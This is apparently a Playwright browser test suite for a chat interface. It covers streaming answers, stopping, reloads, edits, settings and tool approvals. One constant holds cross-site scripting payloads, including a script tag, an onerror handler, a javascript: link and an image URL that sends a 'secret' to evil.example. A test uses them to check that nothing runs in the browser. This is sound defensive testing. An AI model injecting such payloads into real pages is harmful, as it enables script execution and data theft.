"""What does a person see in a real browser?"""

from __future__ import annotations

import re
from typing import Any

import pytest
from playwright.async_api import Page, expect

from tests.support.browser import ask, talk
from tests.support.scripted_ollama import Call, Hang, Say, ScriptedOllama, Think, Wait
from tests.support.stack import Stack

pytestmark = [pytest.mark.stack, pytest.mark.browser]
HOSTILE = (
    '<img src=x onerror="window.owned=1"> <script>window.owned=1</script> '
    "[a](javascript:window.owned=1) ![p](https://evil.example/p.png?q=secret) "
    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>'
)


async def test_answer_streams_with_thinking_and_tool(page: Page, stack: Stack, model: ScriptedOllama) -> None:
    model.reply(Think("let me see"), Call("get_datetime", {"timezone": "Europe/Paris"}))
    model.reply(Say("It is soon "), Wait("go"), Say("**noon**."))
    await ask(page, "What time is it in Paris?")
    await expect(talk(page).get_by_text("It is soon")).to_be_visible()
    await expect(page.get_by_role("button", name="Stop")).to_be_visible()
    model.release("go")
    await expect(talk(page).locator("strong", has_text="noon")).to_be_visible()
    await expect(talk(page).get_by_text(re.compile("get_datetime"))).to_be_visible()
    await expect(page.get_by_role("link", name="What time is it in Paris?")).to_be_visible()
    await page.reload()
    await expect(talk(page).locator("strong", has_text="noon")).to_be_visible()


async def test_stop(page: Page, stack: Stack, model: ScriptedOllama) -> None:
    model.reply(Say("one two "), Hang())
    await ask(page, "count")
    await expect(talk(page).get_by_text("one two")).to_be_visible()
    await page.get_by_role("button", name="Stop").click()
    await expect(page.get_by_role("button", name="Stop")).to_be_hidden()
    await expect(talk(page).get_by_text("one two")).to_be_visible()
    await ask(page, "and now?")
    await expect(talk(page).get_by_text("You said: and now?")).to_be_visible()


async def test_reload_in_mid_answer(page: Page, stack: Stack, model: ScriptedOllama) -> None:
    model.reply(Say("Hello "), Wait("go"), Say("world."))
    await ask(page, "hi")
    await expect(talk(page).get_by_text("Hello")).to_be_visible()
    await page.reload()
    await expect(talk(page).get_by_text("Hello")).to_be_visible()
    model.release("go")
    await expect(talk(page).get_by_text("Hello world.")).to_be_visible()


@pytest.mark.outage
async def test_gateway_killed_in_mid_answer(page: Page, stack: Stack, model: ScriptedOllama) -> None:
    model.reply(Say("Hello "), Wait("go"), Say("world."))
    await ask(page, "hi")
    await expect(talk(page).get_by_text("Hello")).to_be_visible()
    pid = await stack.kill("gateway")
    await stack.replaced("gateway", pid)
    model.release("go")
    await expect(talk(page).get_by_text("Hello world.")).to_be_visible()


async def test_failed_turn_has_words_and_a_retry_that_works(page: Page, stack: Stack, model: ScriptedOllama) -> None:
    await model.stop()
    await ask(page, "hi")
    retry = page.get_by_role("button", name="Retry")
    await expect(retry).to_be_visible()
    await model.__aenter__()
    await retry.click()
    await expect(talk(page).get_by_text("You said: hi")).to_be_visible()


async def test_nothing_in_an_answer_runs_or_loads(page: Page, stack: Stack, model: ScriptedOllama) -> None:
    model.reply(Think(HOSTILE), Say(HOSTILE))
    await ask(page, HOSTILE)
    await expect(page.get_by_role("button", name="Stop")).to_be_hidden()
    await expect(talk(page).get_by_text(re.compile("iframe|evil")).first).to_be_visible()
    await expect(page).to_have_title(re.compile("^<img src=x onerror="))  # its words, as words
    assert not await page.evaluate("'owned' in window")
    assert await page.locator("iframe, script:not([src]), img[src*='evil']").count() == 0


async def test_versions_of_a_turn(page: Page, stack: Stack, model: ScriptedOllama) -> None:
    await ask(page, "first")
    await expect(talk(page).get_by_text("You said: first")).to_be_visible()
    await page.get_by_role("button", name="Edit the question").click()
    await page.get_by_label("The question in other words").fill("second")
    await page.keyboard.press("Enter")
    await expect(talk(page).get_by_text("You said: second")).to_be_visible()
    await page.reload()
    await expect(talk(page).get_by_text("2/2")).to_be_visible()
    await page.get_by_role("button", name="Earlier version").click()
    await expect(talk(page).get_by_text("You said: first")).to_be_visible()
    await expect(talk(page).get_by_text("You said: second")).to_be_hidden()
    await page.get_by_role("searchbox", name="Search the chats").fill("second")
    await page.get_by_role("button", name=re.compile("second")).first.click()
    await expect(talk(page).get_by_text("You said: second")).to_be_visible()
    await page.get_by_role("button", name="Delete this turn").click()
    await page.get_by_role("button", name="Delete", exact=True).click()
    await expect(talk(page).get_by_text("You said: first")).to_be_visible()
    await expect(talk(page).get_by_text("1/1")).to_be_hidden()


async def test_settings_are_kept_until_saved(page: Page, stack: Stack, model: ScriptedOllama) -> None:
    await page.goto(f"{stack.url}/settings")
    heat = page.get_by_label("Temperature", exact=True)
    await heat.fill("3")
    await page.get_by_role("button", name="Save").click()
    await expect(page.get_by_role("alert").get_by_text("from 0 to 2")).to_be_visible()
    await heat.fill("0.5")
    await page.get_by_role("link", name="New chat").click()
    await page.get_by_role("link", name="Settings").click()
    await expect(heat).to_have_value("0.5")
    await page.get_by_role("button", name="Save").click()
    await expect(page.get_by_role("region", name="Unsaved changes")).to_be_hidden()
    await page.reload()
    await expect(heat).to_have_value("0.5")
    web = page.get_by_role("switch", name="Let the assistant use the web")
    await web.click()
    await expect(web).to_be_checked()
    await page.reload()
    await expect(web).to_be_checked()


async def test_a_command_runs_and_an_approval_outlives_a_reload(
    page: Page, stack: Stack, model: ScriptedOllama
) -> None:
    await page.goto(f"{stack.url}/settings")
    await page.get_by_label("Search the settings").fill("datetime policies")
    await page.get_by_label("Policies", exact=True).fill('{"confirm": [{}]}')
    await page.get_by_role("button", name="Save").click()
    await expect(page.get_by_role("region", name="Unsaved changes")).to_be_hidden()
    await page.get_by_role("link", name="New chat").first.click()
    field = page.get_by_label("Your question")
    await field.press_sequentially("/ti")
    await expect(page.get_by_role("listbox", name="Commands")).to_contain_text("/time")
    await page.keyboard.press("Tab")
    await field.press_sequentially("Europe/Paris")
    await page.get_by_label("Model for this chat").select_option("scripted-nothink:latest")
    await page.get_by_role("button", name="Send the question").click()
    allow = page.get_by_role("button", name="Allow once")
    await expect(allow).to_be_visible()
    await page.reload()
    await expect(page.get_by_label("Approval for get_datetime")).to_contain_text('"timezone": "Europe/Paris"')
    await allow.click()
    await expect(talk(page).locator("footer").get_by_text("scripted-nothink:latest")).to_be_visible()


@pytest.mark.parametrize(
    "size", [{"width": 360, "height": 740}, {"width": 1280, "height": 800}], ids=["phone", "desktop"]
)
@pytest.mark.parametrize("theme", ["light", "dark"])
async def test_pages_fit(page: Page, stack: Stack, model: ScriptedOllama, size: Any, theme: Any) -> None:
    await page.set_viewport_size(size)
    await page.emulate_media(color_scheme=theme)
    await ask(page, "hi " * 30)
    await expect(talk(page).get_by_text("You said").first).to_be_visible()
    for path in ("", "/status", "/memory", "/settings"):
        await page.goto(f"{stack.url}{path}")
        await expect(page.locator("main")).to_be_visible()
        wide = await page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        assert wide <= 0


async def test_the_start_page_begins_at_its_top(page: Page, stack: Stack, model: ScriptedOllama) -> None:
    """Also where it is too high for the screen."""
    await page.set_viewport_size({"width": 360, "height": 480})
    await page.goto(stack.url)
    await expect(page.get_by_label("Your question")).to_be_focused()
    await expect(page.get_by_role("heading", name="What would you like to know?")).to_be_in_viewport(ratio=1)


async def test_another_tab_learns_of_a_deleted_turn(page: Page, stack: Stack, model: ScriptedOllama) -> None:
    await ask(page, "one")
    await expect(talk(page).get_by_text("You said: one")).to_be_visible()
    other = await page.context.new_page()
    await other.goto(page.url)
    await expect(talk(other).get_by_text("You said: one")).to_be_visible()
    await page.get_by_role("button", name="Delete this turn").click()
    await page.get_by_role("button", name="Delete", exact=True).click()
    await expect(talk(other).get_by_text("You said: one")).to_be_hidden()
